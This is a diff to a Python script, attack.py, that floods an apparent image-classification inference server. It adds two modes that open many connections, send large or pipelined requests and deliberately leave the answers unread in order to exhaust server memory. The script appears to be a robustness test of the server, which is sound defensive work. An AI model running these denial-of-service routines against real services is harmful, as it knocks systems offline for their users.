@@ -4,6 +4,11 @@ them (stdlib only). Prints the requests sent and the answers by status.
 
   attack.py HOST:PORT endless-header   # chunked multipart, a part header that never ends
   attack.py HOST:PORT tiny-batches     # 400 concurrent /classify/batch of 64 one-pixel PNGs
+  attack.py HOST:PORT v2-echo          # 64 clients: a /v2 body of one 9 MiB JSON string, answers unread
+  attack.py HOST:PORT unread-assets    # 120 clients pipelining 4 GETs of Swagger UI's script, reading nothing
+
+The last two hold their connections open with a small receive window and read only the status
+line, so that what the server sends stays in the server; they print the answers' sizes.
 """
 import collections
 import socket
@@ -89,5 +94,70 @@ def tiny_batches(addr, requests=400, images=64):
           f"{requests * (len(head) + len(body)) / 2**20:.1f} MiB in all); answers by status: {dict(statuses)}")
 
 
+def held_unread(addr, request, single, clients, hold=3.0):
+    """`clients` connections each send `request` and read only the status line (retrying on
+    503), then all stay open, unread, for `hold` seconds. Returns the statuses and the size of
+    the answer to `single`, sent by one more client that reads it whole."""
+    host, port = addr.rsplit(":", 1)
+    statuses = collections.Counter()
+    held = []
+    lock = threading.Lock()
+
+    def one():
+        for _ in range(200):
+            s = socket.socket()
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            s.settimeout(60)
+            try:
+                s.connect((host, int(port)))
+                s.sendall(request)
+                code = status_of(s)
+            except OSError:
+                code = 0
+            if code != 503:
+                with lock:
+                    statuses[code] += 1
+                    held.append(s)
+                return
+            s.close()
+
+    threads = [threading.Thread(target=one) for _ in range(clients)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    threading.Event().wait(hold)
+    s = socket.create_connection((host, int(port)), timeout=60)
+    s.sendall(single)
+    answer = b""
+    while True:
+        b = s.recv(1 << 16)
+        if not b:
+            break
+        answer += b
+    for c in held:
+        c.close()
+    return statuses, len(answer)
+
+
+def v2_echo(addr, clients=64, chars=(9 << 20) // 2 - 64):
+    body = ('"' + "\u0080" * chars + '"').encode()
+    head = (b"POST /v2/models/cifar10-cnn/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            b"Content-Length: %d\r\n" % len(body))
+    statuses, size = held_unread(addr, head + b"\r\n" + body,
+                                 head + b"Connection: close\r\n\r\n" + body, clients)
+    print(f"v2-echo: {clients} clients, a {len(body)}-byte JSON string each, answers unread; "
+          f"answers by status: {dict(statuses)}; one answer read whole: {size} bytes")
+
+
+def unread_assets(addr, clients=120):
+    get = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n"
+    statuses, size = held_unread(addr, (get + b"\r\n") * 4, get + b"Connection: close\r\n\r\n",
+                                 clients)
+    print(f"unread-assets: {clients} clients pipelining 4 GETs each, reading nothing; "
+          f"answers by status: {dict(statuses)}; one answer read whole: {size} bytes")
+
+
 if __name__ == "__main__":
-    {"endless-header": endless_header, "tiny-batches": tiny_batches}[sys.argv[2]](sys.argv[1])
+    {"endless-header": endless_header, "tiny-batches": tiny_batches, "v2-echo": v2_echo,
+     "unread-assets": unread_assets}[sys.argv[2]](sys.argv[1])
